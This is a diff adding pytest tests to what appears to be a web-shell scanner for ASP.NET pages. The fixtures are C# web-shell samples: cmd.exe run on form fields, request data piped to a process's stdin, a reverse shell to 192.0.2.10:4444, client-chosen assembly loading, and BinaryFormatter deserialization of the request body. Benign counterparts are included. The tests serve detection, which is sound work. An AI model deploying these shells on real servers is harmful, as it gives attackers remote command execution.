@@ -269,3 +269,115 @@ def test_page_markup_larger_than_the_limit_is_a_problem_of_its_code_behind(tmp_p
     whole = hunt(behind, max_file_size=len(markup) + 1)
     assert not [e for e in whole.errors if "page markup" in e.message]
     assert PROCESS in {f.rule_id for f in whole.findings}
+
+
+# ----------------------------------------------------------------------------- own classes, stdin, sockets
+
+STATIC = cs_page("""public class Util {
+    public static string Exec(string c) {
+        var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c) { UseShellExecute = false, RedirectStandardOutput = true });
+        return p.StandardOutput.ReadToEnd();
+    }
+}
+void Page_Load(object sender, EventArgs e) {
+    Response.Write(Util.Exec(Request.Form["c"]));
+    new Runner().Go(Request.Form["d"]);
+}
+public class Runner { public void Go(string d) { System.Diagnostics.Process.Start("cmd.exe", "/c " + d); } }""")
+
+
+def test_static_and_instance_methods_of_the_files_own_classes_take_their_arguments() -> None:
+    report = run("own-classes.aspx", STATIC)
+    chains = [c.chain for c in report.capabilities if c.rule_id == PROCESS]
+    assert any("form field 'c'" in c for c in chains) and any("form field 'd'" in c for c in chains)
+
+
+def test_own_class_methods_called_with_fixed_values_stay_quiet() -> None:
+    code = STATIC.replace('Util.Exec(Request.Form["c"])', 'Util.Exec("ver")').replace(
+        'Go(Request.Form["d"])', 'Go("whoami")'
+    )
+    assert medium_or_above(run("own-classes-benign.aspx", code)) == []
+
+
+def test_request_data_written_to_a_started_process_input_runs_commands() -> None:
+    code = cs_page("""void Page_Load(object sender, EventArgs e) {
+    var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe") { RedirectStandardInput = true, UseShellExecute = false };
+    var p = System.Diagnostics.Process.Start(psi);
+    p.StandardInput.WriteLine(Request.Form["c"]);
+    System.IO.StreamWriter input = p.StandardInput;
+    input.WriteLine(Request.Form["d"]);
+}""")
+    report = run("stdin.aspx", code)
+    assert PROCESS in medium_or_above(report)
+    assert "StandardInput.WriteLine" in chain_of(report, PROCESS)
+
+
+REVERSE = cs_page("""void Page_Load(object sender, EventArgs e) {
+    var client = new System.Net.Sockets.TcpClient("192.0.2.10", 4444);
+    var ns = client.GetStream();
+    var rd = new System.IO.StreamReader(ns);
+    var p = new System.Diagnostics.Process();
+    p.StartInfo.FileName = "cmd.exe";
+    p.StartInfo.UseShellExecute = false;
+    p.StartInfo.RedirectStandardInput = true;
+    p.Start();
+    System.IO.StreamWriter stdin = p.StandardInput;
+    while (true) { stdin.WriteLine(rd.ReadLine()); }
+}""")
+
+
+def test_a_reverse_shell_runs_what_its_socket_reads() -> None:
+    report = run("reverse.aspx", REVERSE)
+    assert PROCESS in medium_or_above(report)
+    assert "data read from a socket" in chain_of(report, PROCESS)
+
+
+def test_a_page_that_reads_a_socket_and_shows_or_saves_it_stays_quiet() -> None:
+    code = cs_page("""void Page_Load(object sender, EventArgs e) {
+    var client = new System.Net.Sockets.TcpClient("whois.example.org", 43);
+    var ns = client.GetStream();
+    var bytes = System.Text.Encoding.ASCII.GetBytes(Request.Form["domain"] + "\\r\\n");
+    var rd = new System.IO.StreamReader(ns);
+    string answer = rd.ReadToEnd();
+    System.IO.File.WriteAllText(Server.MapPath("~/App_Data/whois.txt"), answer);
+    Label1.Text = answer;
+    var p = System.Diagnostics.Process.Start("ping.exe", "-n 1 whois.example.org");
+}""")
+    assert medium_or_above(run("whois.aspx", code)) == []
+
+
+# ----------------------------------------------------------------------------- assemblies by path, formatters
+
+
+def test_an_assembly_loaded_from_a_path_the_client_names_runs_its_code() -> None:
+    code = cs_page("""void Page_Load(object sender, EventArgs e) {
+    var asm = System.Reflection.Assembly.LoadFrom(Request.Form["p"]);
+    asm.CreateInstance("X");
+}""")
+    assert "EXH-WS-CODE-ASSEMBLY" in medium_or_above(run("loadfrom.aspx", code))
+
+
+def test_an_assembly_loaded_from_the_sites_bin_stays_quiet() -> None:
+    code = cs_page("""void Page_Load(object sender, EventArgs e) {
+    var asm = System.Reflection.Assembly.LoadFrom(Server.MapPath("bin\\\\Plugins.dll"));
+    Label1.Text = Request.Form["q"];
+}""")
+    assert medium_or_above(run("plugins.aspx", code)) == []
+
+
+def test_request_data_deserialized_by_binary_formatter_is_reported() -> None:
+    code = cs_page("""void Page_Load(object sender, EventArgs e) {
+    var bf = new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter();
+    bf.Deserialize(Request.InputStream);
+}""")
+    report = run("formatter.aspx", code)
+    assert "EXH-WS-CODE-DESERIALIZE" in medium_or_above(report)
+    assert "the request body" in chain_of(report, "EXH-WS-CODE-DESERIALIZE")
+
+
+def test_a_formatter_reading_the_sites_own_file_stays_quiet() -> None:
+    code = cs_page("""void Page_Load(object sender, EventArgs e) {
+    var bf = new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter();
+    using (var fs = System.IO.File.OpenRead(Server.MapPath("~/App_Data/cache.bin"))) { Cache["c"] = bf.Deserialize(fs); }
+}""")
+    assert medium_or_above(run("cache.aspx", code)) == []
